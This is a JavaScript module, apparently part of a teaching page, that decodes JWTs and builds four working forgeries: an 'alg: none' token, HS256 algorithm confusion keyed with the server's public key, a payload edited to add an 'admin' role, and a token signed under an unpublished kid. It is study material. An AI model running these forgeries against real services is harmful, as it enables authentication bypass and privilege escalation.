// @ts-check
/**
 * Reading and forging JWTs in the browser, for study. Nothing here verifies anything: the resource's verifier
 * (POST /api/explain) does that. The forgeries are built with WebCrypto from public material only: the current
 * token, the public JWKS, and keys this page generates itself. The server never signs a forgery.
 */

const encoder = new TextEncoder();
const decoder = new TextDecoder();

/** @param {Uint8Array} bytes */
export function base64url(bytes) {
  let binary = '';
  for (const byte of bytes) binary += String.fromCharCode(byte);
  return btoa(binary).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}

/** @param {string} text */
export function base64urlDecode(text) {
  const b64 = text.replace(/-/g, '+').replace(/_/g, '/') + '==='.slice((text.length + 3) % 4);
  const binary = atob(b64);
  return Uint8Array.from(binary, (c) => c.charCodeAt(0));
}

/** @param {unknown} value */
const encodeJson = (value) => base64url(encoder.encode(JSON.stringify(value)));

/**
 * @typedef {{ header: Record<string, unknown>, claims: Record<string, unknown>, signature: string, parts: string[] }} Decoded
 * @param {string} token
 * @returns {Decoded}
 */
export function decode(token) {
  const parts = token.split('.');
  if (parts.length !== 3) throw new Error('not a compact JWS');
  return {
    header: JSON.parse(decoder.decode(base64urlDecode(parts[0] ?? ''))),
    claims: JSON.parse(decoder.decode(base64urlDecode(parts[1] ?? ''))),
    signature: parts[2] ?? '',
    parts,
  };
}

/**
 * @param {CryptoKey} key
 * @param {AlgorithmIdentifier} algorithm
 * @param {Record<string, unknown>} header
 * @param {Record<string, unknown>} claims
 */
async function signed(key, algorithm, header, claims) {
  const input = `${encodeJson(header)}.${encodeJson(claims)}`;
  const signature = await crypto.subtle.sign(algorithm, key, encoder.encode(input));
  return `${input}.${base64url(new Uint8Array(signature))}`;
}

/** @param {ArrayBuffer} spki */
function pem(spki) {
  const b64 = btoa(String.fromCharCode(...new Uint8Array(spki)));
  const lines = b64.match(/.{1,64}/g) ?? [];
  return `-----BEGIN PUBLIC KEY-----\n${lines.join('\n')}\n-----END PUBLIC KEY-----\n`;
}

/**
 * `alg: none`, no signature: the oldest trick (RFC 8725 section 2.1).
 * @param {string} token
 */
export function forgeAlgNone(token) {
  const { header, claims } = decode(token);
  return `${encodeJson({ ...header, alg: 'none' })}.${encodeJson(claims)}.`;
}

/**
 * HS256 with the server's public key (PEM) as the HMAC secret: works against a verifier that takes `alg` from
 * the token and hands the same key to HMAC (RFC 8725 section 2.1, "algorithm confusion").
 * @param {string} token
 * @param {JsonWebKey} jwk the JWKS entry for the token's kid
 */
export async function forgeHs256WithPublicKey(token, jwk) {
  const { header, claims } = decode(token);
  const rsa = await crypto.subtle.importKey(
    'jwk',
    { kty: jwk.kty, n: jwk.n, e: jwk.e },
    { name: 'RSASSA-PKCS1-v1_5', hash: 'SHA-256' },
    true,
    ['verify'],
  );
  const secret = encoder.encode(pem(await crypto.subtle.exportKey('spki', rsa)));
  const hmac = await crypto.subtle.importKey('raw', secret, { name: 'HMAC', hash: 'SHA-256' }, false, [
    'sign',
  ]);
  return signed(hmac, 'HMAC', { ...header, alg: 'HS256' }, claims);
}

/**
 * The same header and signature over an edited payload (one more role).
 * @param {string} token
 */
export function forgeEditedPayload(token) {
  const { claims, parts } = decode(token);
  const roles = Array.isArray(claims.roles) ? claims.roles : [];
  return `${parts[0]}.${encodeJson({ ...claims, roles: [...roles, 'admin'] })}.${parts[2]}`;
}

/**
 * A well-formed RS256 token signed by a key this page just made, under a kid the issuer never published.
 * @param {string} token
 */
export async function forgeUnknownKid(token) {
  const { header, claims } = decode(token);
  const pair = await crypto.subtle.generateKey(
    {
      name: 'RSASSA-PKCS1-v1_5',
      modulusLength: 2048,
      publicExponent: new Uint8Array([1, 0, 1]),
      hash: 'SHA-256',
    },
    false,
    ['sign', 'verify'],
  );
  return signed(
    pair.privateKey,
    'RSASSA-PKCS1-v1_5',
    { ...header, kid: `forged-${crypto.randomUUID()}` },
    claims,
  );
}
